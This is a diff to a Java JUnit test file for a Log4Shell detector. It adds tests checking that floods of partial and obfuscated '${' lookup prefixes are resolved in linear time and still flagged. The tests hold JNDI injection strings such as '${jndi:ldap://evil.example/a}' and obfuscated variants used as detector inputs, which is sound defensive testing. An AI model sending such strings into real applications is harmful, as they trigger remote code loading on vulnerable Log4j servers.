@@ -7,6 +7,7 @@ import static org.junit.jupiter.api.Assertions.assertNull;
 import dev.lambdaguard.input.Category;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 /** Log4Shell lookups: resolved the way Log4j resolves them, in bounded work. */
@@ -105,6 +106,27 @@ class JndiDetectorTest {
   void aMegabyteOfNearMissesCompletes(String unit) {
     String value = unit.repeat(1_000_000 / unit.length());
     detector.detect(Normalized.of(value)); // linear: completes; no timing assertion
+  }
+
+  @ParameterizedTest
+  @CsvSource(delimiter = '|', value = {"${::-|", "${lower:|", "${${|", "${env:|jndi.env-exfiltration",
+      "${jndi:|jndi.lookup", "${\\u006andi:|jndi.lookup"})
+  void aMegabyteOfAShortUnitKeepsItsVerdict(String unit, String ruleId) {
+    // a level that keeps no more text is passed over to its next ${ or }, without a search per dollar sign
+    Detection d = detect(unit.repeat(1_000_000 / unit.length()));
+    assertEquals(ruleId, d == null ? null : d.ruleId(), () -> "flood of " + unit);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"${::-", "${lower:", "${${", "${", "${env:", "${\\u006andi:"})
+  void aLookupAfterAFloodOfUnclosedLookupsIsStillFound(String unit) {
+    // Log4j takes an outer ${ without its } for text and looks the inner lookup up: no level keeps it here, and it
+    // counts all the same
+    String flood = unit.repeat(100_000 / unit.length());
+    assertRule("jndi.lookup", 100, flood + "${jndi:ldap://evil.example/a}");
+    assertRule("jndi.lookup", 100, flood + "${JNDI:ldap://evil.example/a");
+    assertRule("jndi.lookup", 90, flood + "${jndi:x}");
+    assertEquals(detect(flood), detect(flood + "${price}"), "a placeholder after the flood changes nothing");
   }
 
   @Test
